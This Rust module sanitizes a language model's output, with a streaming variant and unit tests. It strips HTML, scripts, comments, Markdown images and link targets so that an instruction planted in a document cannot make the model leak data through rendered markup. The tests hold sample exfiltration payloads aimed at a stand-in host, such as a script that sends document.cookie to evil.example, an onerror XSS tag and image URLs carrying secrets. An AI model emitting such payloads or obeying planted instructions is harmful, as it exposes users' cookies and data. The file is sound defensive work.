//! Model output becomes plain text before anyone sees it. A model that obeyed an instruction
//! planted in a document could write `<script>` or a Markdown image whose URL carries data to
//! an outside host (rendering the image would send it); neither gets through.
//!
//! Removed: HTML tags and comments (with the content of `<script>` and `<style>` elements),
//! Markdown images, link reference definitions. Markdown links keep their text and lose their
//! target. Citation markers such as `[2]` are untouched.

use std::sync::LazyLock;

use regex::Regex;

struct Rules {
    script_or_style: Regex,
    unclosed_script_or_style: Regex,
    comment: Regex,
    unclosed_comment: Regex,
    tag: Regex,
    image: Regex,
    link: Regex,
    reference_definition: Regex,
    blank_runs: Regex,
}

static RULES: LazyLock<Rules> = LazyLock::new(|| Rules {
    script_or_style: Regex::new(r"(?is)<script\b.*?</script\s*>|<style\b.*?</style\s*>")
        .expect("valid regex"),
    unclosed_script_or_style: Regex::new(r"(?is)<(?:script|style)\b.*$").expect("valid regex"),
    comment: Regex::new(r"(?s)<!--.*?-->").expect("valid regex"),
    unclosed_comment: Regex::new(r"(?s)<!--.*$").expect("valid regex"),
    tag: Regex::new(r"</?[A-Za-z][^<>]*>|<[!?][^<>]*>").expect("valid regex"),
    image: Regex::new(r"!\[[^\]]*\]\s*(?:\([^)]*\)|\[[^\]]*\])").expect("valid regex"),
    link: Regex::new(r"\[([^\]]*)\]\([^)]*\)").expect("valid regex"),
    reference_definition: Regex::new(r"(?m)^[ \t]*\[[^\]]+\]:[ \t]*\S+.*$").expect("valid regex"),
    blank_runs: Regex::new(r"[ \t]{2,}").expect("valid regex"),
});

/// The plain-text form of a model's output.
pub fn sanitize(text: &str) -> String {
    let rules = &*RULES;
    let text = rules.script_or_style.replace_all(text, "");
    let text = rules.unclosed_script_or_style.replace_all(&text, "");
    let text = rules.comment.replace_all(&text, "");
    let text = rules.unclosed_comment.replace_all(&text, "");
    let text = rules.tag.replace_all(&text, "");
    let text = rules.image.replace_all(&text, "");
    let text = rules.link.replace_all(&text, "$1");
    let text = rules.reference_definition.replace_all(&text, "");
    rules.blank_runs.replace_all(&text, " ").into_owned()
}

/// Sanitizes text that arrives in pieces, emitting only what can no longer change: text from
/// an unfinished construct (a `<` without its `>`, an open `<script>`, a `[…]` that may become
/// a link) is held back until it is complete or the stream ends.
#[derive(Debug, Default)]
pub struct StreamSanitizer {
    raw: String,
    emitted: String,
}

impl StreamSanitizer {
    /// Adds a piece of model output; returns the newly safe text (possibly empty).
    pub fn push(&mut self, piece: &str) -> String {
        self.raw.push_str(piece);
        let stable = &self.raw[..stable_prefix(&self.raw)];
        self.emit(sanitize(stable))
    }

    /// Ends the stream; returns whatever was held back, sanitized.
    pub fn finish(&mut self) -> String {
        let all = sanitize(&self.raw);
        self.emit(all)
    }

    fn emit(&mut self, clean: String) -> String {
        // Sanitizing a longer prefix only ever appends, because the cut never falls inside a
        // construct; should that ever not hold, nothing more is emitted rather than text twice.
        match clean.strip_prefix(self.emitted.as_str()) {
            Some(new) if !new.is_empty() => {
                let new = new.to_string();
                self.emitted = clean;
                new
            }
            _ => String::new(),
        }
    }
}

/// The length of the longest prefix of `raw` that ends outside any unfinished construct.
fn stable_prefix(raw: &str) -> usize {
    let lower = raw.to_ascii_lowercase();
    let mut cut = raw.len();
    // A tag or comment that has not closed yet.
    if let Some(open) = raw.rfind('<')
        && !raw[open..].contains('>')
    {
        cut = cut.min(open);
    }
    for (open, close) in [
        ("<script", "</script"),
        ("<style", "</style"),
        ("<!--", "-->"),
    ] {
        if let Some(start) = lower.rfind(open)
            && !lower[start..].contains(close)
        {
            cut = cut.min(start);
        }
    }
    // A bracket that may still become a link or an image: `[` without `]`, or `]` at the end
    // (a `(` may follow), or `](` without `)`.
    if let Some(open) = raw.rfind('[') {
        let tail = &raw[open..];
        let pending = match tail.find(']') {
            None => true,
            Some(close) => {
                let after = &tail[close + 1..];
                after.trim_start().is_empty() || (after.starts_with('(') && !after.contains(')'))
            }
        };
        if pending {
            let start = if open > 0 && raw.as_bytes()[open - 1] == b'!' {
                open - 1
            } else {
                open
            };
            cut = cut.min(start);
        }
    }
    if raw[..cut].ends_with('!') {
        cut -= 1;
    }
    cut
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn html_and_scripts_are_removed() {
        assert_eq!(
            sanitize(
                "Leave is 20 days [1].<script>fetch('https://evil.example/?'+document.cookie)</script> <b>Really</b>."
            ),
            "Leave is 20 days [1]. Really."
        );
        assert_eq!(
            sanitize("a <!-- hidden --> b <img src=x onerror=alert(1)>"),
            "a b "
        );
        assert_eq!(sanitize("unfinished <script>alert(1)"), "unfinished ");
    }

    #[test]
    fn images_are_dropped_and_links_keep_only_their_text() {
        assert_eq!(
            sanitize(
                "See ![logo](https://evil.example/p.png?q=SECRET) the [policy](https://evil.example/x) [2]."
            ),
            "See the policy [2]."
        );
        assert_eq!(
            sanitize("Text ![x][img] end.\n[img]: https://evil.example/?d=1"),
            "Text end.\n"
        );
    }

    #[test]
    fn citations_and_comparisons_survive() {
        assert_eq!(
            sanitize("If a < b and c > d, then [1][2]."),
            "If a < b and c > d, then [1][2]."
        );
    }

    #[test]
    fn streamed_pieces_sanitize_like_the_whole() {
        let text = "Leave is 20 days [1]. <scr";
        let rest = "ipt>steal()</script>See ![i](https://evil.example/a.png?x=1) [the policy](https://x.example) [2]! Done <b>now</b>.";
        for split in 1..text.len() + rest.len() {
            let full = format!("{text}{rest}");
            if !full.is_char_boundary(split) {
                continue;
            }
            let mut streamer = StreamSanitizer::default();
            let mut out = String::new();
            for piece in [&full[..split], &full[split..]] {
                out.push_str(&streamer.push(piece));
            }
            out.push_str(&streamer.finish());
            assert_eq!(out, sanitize(&full), "split at {split}");
            assert!(!out.contains("evil") && !out.contains("steal"));
        }
    }

    #[test]
    fn stream_emits_plain_text_at_once() {
        let mut streamer = StreamSanitizer::default();
        assert_eq!(streamer.push("Employees get "), "Employees get ");
        assert_eq!(streamer.push("20 days ["), "20 days ");
        assert_eq!(streamer.push("1]."), "[1].");
    }
}
